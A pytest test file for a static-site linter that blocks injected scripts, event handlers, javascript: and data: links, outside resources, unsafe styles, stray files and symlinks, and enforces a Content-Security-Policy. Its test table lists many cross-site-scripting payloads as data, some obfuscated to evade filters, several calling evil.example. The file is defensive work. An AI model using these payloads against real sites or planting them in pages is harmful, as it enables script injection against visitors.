"""The second wall on small sites: what it stops, what it lets through, and what it says."""

from __future__ import annotations

from pathlib import Path

import pytest

from atlas.catalogue.findings import Finding, Findings
from atlas.content_policy import content_policy, pinned_scripts, pins_text, script_hash
from atlas.site_lint import LINK_CODES, Rules, SiteLinter, Source, inline_scripts

POLICY = "default-src 'none'"
ADDRESS = "https://example.org/atlas/"
SOURCE = Source("docs/zh/index.md", '# 页 {#page}\n\n文 [文](other.md#gone) <a href="nowhere/">x</a>\n')
META = f'<meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="{POLICY}">'


def page(body: str) -> str:
    return f'<!doctype html>\n<html lang="zh"><head>{META}<title>x</title></head>\n<body>\n{body}\n</body></html>'


def lint(folder: Path, files: dict[str, str], rules: Rules | None = None) -> list[Finding]:
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, "utf-8")
    findings = Findings()
    SiteLinter(rules or Rules((), POLICY, ADDRESS)).lint(folder, findings, {"index.html": SOURCE})
    return findings.sorted()


def codes(findings: list[Finding]) -> set[str]:
    return {finding.rule.code for finding in findings}


HOSTILE = {
    "script": ("<script>alert(1)</script>", "E905"),
    "script in capitals": ("<SCRIPT>alert(1)</SCRIPT>", "E905"),
    "script never closed": ("<script>alert(1)", "E901"),
    "script that closes itself": ("<svg><script/>alert(1)</svg>", "E901"),
    "script from elsewhere": ('<script src="https://evil.example/x.js"></script>', "E903"),
    "script without a scheme": ('<script src="//evil.example/x.js"></script>', "E903"),
    "script beside a page": ('<script src="x.js"></script>', "E905"),
    "script up and out": ('<script src="assets/javascripts/../../x.js"></script>', "E905"),
    "script in data": ('<script type="application/json"><!--<script></script>', "E905"),
    "import map": ('<script type="importmap">{}</script>', "E905"),
    "event": ('<img src="x.png" onerror="alert(1)">', "E902"),
    "event without blanks": ('<img/src="x.png"/onerror=alert(1)>', "E904"),
    "event behind a quote": ('<a title=">" onclick=alert(1)>x</a>', "E904"),
    "event in an unknown element": ("<x-y onclick=alert(1)>x</x-y>", "E901"),
    "scheme": ('<a href="javascript:alert(1)">x</a>', "E903"),
    "scheme in references": ('<a href="&#106;ava&Tab;script&colon;alert(1)">x</a>', "E903"),
    "scheme with blanks": ('<a href=" java\tscript:alert(1)">x</a>', "E903"),
    "data address": ('<a href="data:text/html,x">x</a>', "E903"),
    "picture from elsewhere": ('<img src="https://evil.example/x.png">', "E903"),
    "set of pictures": ('<img srcset="https://evil.example/x.png 2x">', "E902"),
    "style sheet from elsewhere": ('<link rel="stylesheet" href="//evil.example/x.css">', "E903"),
    "link of an old drawing": ('<svg><a xlink:href="javascript:alert(1)">x</a></svg>', "E902"),
    "link of a formula": ('<math><mi href="javascript:alert(1)">x</mi></math>', "E903"),
    "markup in a formula": ('<math><annotation-xml encoding="text/html">x</annotation-xml></math>', "E901"),
    "foreign object": ("<svg><foreignObject>x</foreignObject></svg>", "E901"),
    "drawing from elsewhere": ('<svg><use href="x.svg#a"></use></svg>', "E901"),
    "base": ('<base href="/x/">', "E901"),
    "iframe": ('<iframe src="./"></iframe>', "E901"),
    "iframe with a page inside": ('<iframe srcdoc="x"></iframe>', "E901"),
    "object": ('<object data="x"></object>', "E901"),
    "embed": ('<embed src="x">', "E901"),
    "form with a target": ('<form action="https://evil.example/"></form>', "E902"),
    "button with a target": ('<button formaction="https://evil.example/">x</button>', "E902"),
    "refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "E902"),
    "second policy": ('<meta http-equiv="Content-Security-Policy" content="x">', "E907"),
    "style element": ("<style>body{display:none}</style>", "E901"),
    "style that covers the page": ('<p style="position:fixed">x</p>', "E908"),
    "style that fetches": ('<p style="width:1px;background:url(//evil.example)">x</p>', "E908"),
    "style with escapes": ('<p style="width:\\75rl(x)">x</p>', "E908"),
    "text field": ("<textarea></textarea>", "E901"),
    "raw text": ("<noscript><p>x</p></noscript>", "E901"),
    "template": ("<template><p>x</p></template>", "E901"),
    "tag inside an attribute": ('<p title="</title><script>">x</p>', "E904"),
    "comment that ends early": ("<!--><b>x</b>-->", "E904"),
    "comment with a bang": ("<!-- x --!><b>y</b>", "E904"),
    "instruction": ("<?php x ?>", "E904"),
    "character data": ("<svg><![CDATA[<b>]]></svg>", "E904"),
    "lone bracket": ("a <b", "E904"),
    "same id twice": ('<p id="a">x</p><p id="a">y</p>', "E909"),
    "id of the theme": ('<input id="__search"><h2 id="__search">x</h2>', "E909"),
    "link to nothing": ('<a href="nowhere/">x</a>', "E910"),
    "link out of the site": ('<a href="../../etc/">x</a>', "E910"),
    "link to nothing by full address": (f'<a href="{ADDRESS}nowhere/">x</a>', "E910"),
    "link to the root of the host": ('<a href="/">x</a>', "E910"),
    "picture that is not there": ('<img src="x.png">', "E910"),
    "anchor that is not there": ('<a href="#nowhere">x</a>', "E911"),
    "anchor on another page": ('<a href="en/#nowhere">x</a>', "E911"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_must_not_be_published(name: str, tmp_path: Path) -> None:
    body, code = HOSTILE[name]
    found = lint(tmp_path, {"index.html": page(body), "en/index.html": page("x")})
    assert code in codes(found), [finding.render("en") for finding in found]
    [finding, *_] = [each for each in found if each.rule.code == code]
    assert "docs/zh/index.md" in finding.what("zh")
    if code in LINK_CODES:
        assert finding.place.file == "docs/zh/index.md"
        assert "index.html:4:" in finding.what("zh")
    else:
        assert finding.place.file == "index.html"
        assert code == "E907" or finding.place.line == 4


@pytest.mark.parametrize(
    ("link", "place"),
    [
        ('<a href="nowhere/">x</a>', "docs/zh/index.md:3:30"),
        ('<a href="en/#gone">x</a>', "docs/zh/index.md:3:15"),
        ('<a href="../other.md">x</a>', "docs/zh/index.md:3:7"),
        ('<a href="drawn/">x</a>', "docs/zh/index.md:1:1"),
    ],
)
def test_a_link_is_told_in_the_page_that_holds_it(link: str, place: str, tmp_path: Path) -> None:
    [finding] = lint(tmp_path, {"index.html": page(link), "en/index.html": page("x")})
    assert str(finding.place) == place


def test_a_link_of_a_template_is_told_in_the_built_page(tmp_path: Path) -> None:
    [finding] = lint(tmp_path, {"404.html": page('<a href="nowhere/">x</a>')})
    assert str(finding.place) == "404.html:4:1"


def test_the_same_thing_on_many_pages_is_told_once(tmp_path: Path) -> None:
    body = page("<p onclick=x>y</p>")
    found = lint(tmp_path, {f"{name}/index.html": body for name in ("a", "b", "c")})
    assert [(each.rule.code, each.place.file, each.values["pages"]) for each in found] == [("E902", "a/index.html", 3)]


def test_what_pages_are_made_of_passes(tmp_path: Path) -> None:
    body = """
    <!-- a comment --> <a href="en/#here">x</a> <a href="https://example.com/?a=1&amp;b=2#c" rel=noopener>x</a>
    <a href="https://example.org/atlas/en/">x</a> <a href="/atlas/en/#here">x</a>
    <a href="mailto:a@example.org">x</a> <a href="x%20y.csv" download>x</a> <a href="?q=1">x</a> <a href="">x</a>
    <td style="text-align: right;">1 &lt; 2</td> <svg viewBox="0 0 1 1"><title>x</title><path d="M0 0"/></svg>
    <math display="block"><mtd style="width: 7.5%"></mtd><annotation encoding="application/x-tex">x</annotation></math>
    <script src="assets/javascripts/x.js" defer></script> <script type="application/json">{"a": "\\u003cb>"}</script>
    """
    files = {"index.html": page(body), "en/index.html": page('<h2 id="here">x</h2>'), "x y.csv": "a"}
    found = lint(tmp_path, files | {"assets/javascripts/x.js": ""})
    assert not found, [finding.render("en") for finding in found]


@pytest.mark.parametrize("name", ["x.yml", "en/x.md", "hook.py", ".env", "x.exe", "en/x.js", "api/x.mjs", "Makefile"])
def test_sources_and_stray_files_are_not_published(name: str, tmp_path: Path) -> None:
    found = lint(tmp_path, {"index.html": page("x"), name: "x"})
    assert [(finding.rule.code, finding.place.file) for finding in found] == [("E912", name)]


def test_links_in_the_file_system_are_not_published(tmp_path: Path) -> None:
    (tmp_path / "secret.json").symlink_to("/etc/hostname")
    (tmp_path / "loop").symlink_to(tmp_path)
    found = lint(tmp_path, {"index.html": page("x")})
    assert [(finding.rule.code, finding.place.file) for finding in found] == [("E913", "loop"), ("E913", "secret.json")]


@pytest.mark.parametrize("text", ["<!doctype html><p>x</p>", page("x").replace(POLICY, "default-src *")])
def test_every_page_has_the_policy(text: str, tmp_path: Path) -> None:
    assert codes(lint(tmp_path, {"index.html": text})) == {"E907"}


def test_the_policy_stands_before_the_first_script(tmp_path: Path) -> None:
    text = page("x").replace("<meta charset", '<script>f()</script><meta charset="utf-8"><meta charset', 1)
    assert codes(lint(tmp_path, {"index.html": text}, Rules(("f()",), POLICY))) == {"E907"}


def test_pinned_scripts_may_stand_there_and_must(tmp_path: Path) -> None:
    rules = Rules(("f()", "g()"), POLICY)
    [finding] = lint(tmp_path, {"index.html": page("<script>f()</script>")}, rules)
    assert (finding.rule.code, finding.values["what"]) == ("E906", "g()")


def test_a_language_that_is_not_built_is_not_missed(tmp_path: Path) -> None:
    rules = Rules((), POLICY, absent=("en/",))
    assert not lint(tmp_path, {"index.html": page('<a href="en/models/#x">x</a>')}, rules)


def test_a_linter_that_is_kept_sees_every_change(tmp_path: Path) -> None:
    linter = SiteLinter(Rules((), POLICY))
    for body, expected in (
        ("x", set()),
        ("<p onclick=x>", {"E902"}),
        ('<a href="#a">', {"E911"}),
        ('<p id="a">', set()),
    ):
        (tmp_path / "index.html").write_text(page(body), "utf-8")
        findings = Findings()
        linter.lint(tmp_path, findings)
        assert codes(findings.items) == expected


def test_pins_are_read_back_as_they_were_found(tmp_path: Path) -> None:
    scripts = {'a=">"\n', "b='é'; //</"}
    (tmp_path / "index.html").write_text("".join(f"<script>{script}</script>" for script in scripts), "utf-8")
    (tmp_path / "pins.yml").write_text(pins_text(inline_scripts(tmp_path)), "utf-8")
    assert set(pinned_scripts(tmp_path / "pins.yml")) == scripts


def test_the_policy_allows_pinned_scripts_only() -> None:
    policy = content_policy(("f()",))
    directives = dict(directive.split(" ", 1) for directive in policy.split("; "))
    assert directives["default-src"] == "'none'"
    assert directives["script-src"] == f"'self' {script_hash('f()')}"
    assert directives["base-uri"] == directives["form-action"] == "'none'"
    assert "https:" not in policy
    assert "unsafe-eval" not in policy


def test_read_the_docs_may_add_its_own_parts() -> None:
    policy = content_policy((), on_read_the_docs=True)
    assert "script-src 'self' https://media.ethicalads.io https://server.ethicalads.io;" in policy
    assert "'unsafe-inline'" not in policy.split("style-src")[0]
